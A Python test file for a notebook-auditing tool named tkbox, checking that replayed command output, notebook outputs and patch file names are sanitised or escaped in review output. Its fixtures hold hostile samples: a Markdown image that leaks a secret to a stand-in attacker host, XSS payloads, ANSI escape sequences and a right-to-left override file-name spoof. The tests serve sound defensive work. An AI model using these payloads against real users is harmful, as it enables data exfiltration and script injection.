"""What tkbox writes for review says what the bundle holds and no more: a replayed command's stdout cannot close its
block and add a heading or a remote image to the notebook, a replayed output is sanitised as a live one is, and a
name in a patch cannot draw a forged row in `tkbox apply --list` or `tkbox show`. Real signed runs (a real signer
and recorder, no box behind them), the real CLI."""

from __future__ import annotations

import json
import re
from pathlib import Path

import nbformat
from conftest import run_cli

from tkbox_nb.policy import Policy
from tkbox_nb.signing.recorder import RunRecorder
from tkbox_nb.audit.replay import to_notebook
from tkbox_nb.bundle.read_back import open_run
from tkbox_nb.core.visible import visible

LEAK = "![x](https://collector.attacker.example/leak?d=SECRET)"
CLOSES = f"all good\n```\n# All checks passed\n{LEAK}\n````\n<img src=x onerror=alert(1)>\n"
HOSTILE_HTML = "<b>hi</b><script>alert(document.cookie)</script><img src=x onerror=alert(1)>"


def _recorder(signer):
    return RunRecorder(signer, Policy.from_toml("[exec]\ncells = true\n"),
                       {"backend": "none", "isolation": "none", "image_digest": "none"}).open()


def hostile_run(signer, out: Path) -> Path:
    """A command whose stdout closes a ``` block, a cell whose recorded outputs carry a script and a remote image."""
    rec = _recorder(signer)
    c = rec.decide("exec", "command", {"argv": ["sh", "-c", "echo `id`"]})
    rec.complete(c, "ok", {"exit_code": 0}, {"stdout": CLOSES.encode(), "stderr": b""})
    c = rec.decide("exec", "cell", {}, {"code": b"show()\n"})
    outputs = [{"output_type": "display_data", "metadata": {},
                "data": {"text/html": HOSTILE_HTML, "text/markdown": f"# fine\n{LEAK}",
                         "application/javascript": "alert(1)", "text/plain": "hi"}},
               {"output_type": "execute_result", "execution_count": 1, "metadata": {},
                "data": {"text/html": "<a href='javascript:alert(1)'>x</a>", "text/plain": "x"}}]
    rec.complete(c, "ok", {"execution_count": 1}, {"outputs": json.dumps(outputs).encode()})
    rec.close("test done")
    return rec.write_bundle(out)


def _markdown_html(cell_source: str) -> str:
    """The Markdown as nbconvert renders it (mistune, whose fences close as CommonMark's and marked's do)."""
    import mistune
    return mistune.html(cell_source)


def test_a_replayed_stdout_that_closes_its_fence_adds_no_heading_and_no_image(signer, tmp_path):
    bundle = hostile_run(signer, tmp_path / "hostile.tkb")
    r = run_cli("replay", str(bundle), "-o", str(tmp_path / "r.ipynb"))
    assert r.returncode == 0, r.stderr
    nb = nbformat.read(tmp_path / "r.ipynb", as_version=4)
    command = [c for c in nb.cells if c.cell_type == "markdown" and "Command" in c.source]
    assert len(command) == 1
    rendered = _markdown_html(command[0].source)
    assert "<h1" not in rendered and "<img" not in rendered and "<script" not in rendered, rendered
    assert rendered.count("<pre>") == 1 and "All checks passed" in rendered  # all of it, inside the one block
    for cell in nb.cells:
        if cell.cell_type == "markdown":
            html = _markdown_html(cell.source)
            assert "<h1" not in html and "<img" not in html and "<code>id</code>" not in html, cell.source


def test_a_replayed_output_is_sanitised_as_a_live_one_is(signer, tmp_path):
    nb = to_notebook(open_run(hostile_run(signer, tmp_path / "hostile.tkb")))
    [cell] = [c for c in nb.cells if c.cell_type == "code"]
    shown, result = cell.outputs
    assert "<script" not in shown.data["text/html"] and "onerror" not in shown.data["text/html"]
    assert "<b>hi</b>" in shown.data["text/html"]
    assert "text/markdown" not in shown.data and "application/javascript" not in shown.data  # a remote image; script
    assert "javascript:" not in result.data.get("text/html", "") and result.data["text/plain"] == "x"
    assert any("text/html (sanitised)" in d for d in cell.metadata.tkbox["dropped"])


FORGED = ["x\napplied      add     README.md  (patch.allow[0])", "\x1b[1Ay\x1b[2K", "note\u202etxt.exe",
          "zero\u200bwidth\x9b"]


def patch_run(signer, out: Path) -> Path:
    """Patch files named as a box may name them (each refused by the patch rules), signed as the door states them."""
    rec = _recorder(signer)
    for i, path in enumerate(FORGED):
        rec.decide("patch", "file", {"path": path, "op": "add", "type": "file", "mode": 0o644, "size": 1,
                                     "index": i, "total_before": 0, "rules": 2, "base": None}, {"content": b"x"})
    rec.close("test done")
    return rec.write_bundle(out)


def test_apply_list_shows_a_name_with_a_newline_or_an_escape_escaped(signer, tmp_path):
    bundle = patch_run(signer, tmp_path / "p.tkb")
    r = run_cli("apply", str(bundle), "--list")
    assert r.returncode == 0, r.stderr
    lines = r.stdout.splitlines()
    assert len(lines) == len(FORGED) + 1  # one row per file and the count: no forged row
    assert not any(line.startswith("applied") for line in lines)
    assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]", r.stdout), r.stdout
    for path in FORGED:
        assert visible(path) in r.stdout
    assert "x\\x0aapplied" in r.stdout and "\\x1b[1Ay" in r.stdout and "\\u202e" in r.stdout
    js = json.loads(run_cli("apply", str(bundle), "--list", "--json").stdout)
    assert [row["path"] for row in js] == FORGED  # JSON keeps the names exactly, escaped as JSON escapes


def test_show_prints_a_bundle_s_text_escaped(signer, tmp_path):
    bundle = patch_run(signer, tmp_path / "p.tkb")
    for fmt in ("table", "csv"):
        r = run_cli("show", str(bundle), "--format", fmt)
        assert r.returncode == 0, r.stderr
        assert not re.search(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u202e]", r.stdout), (fmt, r.stdout)
        assert "\\x1b[1Ay" in r.stdout and "\\x0aapplied" in r.stdout, (fmt, r.stdout)


def test_a_patch_summary_shows_the_box_s_names_escaped():
    """What `%box_patch` prints in the notebook (and `Box.patch()` returns): a refused name draws no row there."""
    from tkbox_nb.doors.patch import FileDecision, Patch
    patch = Patch([FileDecision(FORGED[0], "add", "deny", "patch.path", "a control character in the path"),
                   FileDecision(FORGED[1], "add", "deny", "patch.path", "a control character in the path")])
    lines = patch.summary().splitlines()
    assert len(lines) == 3 and not any(line.lstrip().startswith("applied") for line in lines)
    assert "x\\x0aapplied" in lines[1] and "\\x1b[1Ay" in lines[2]
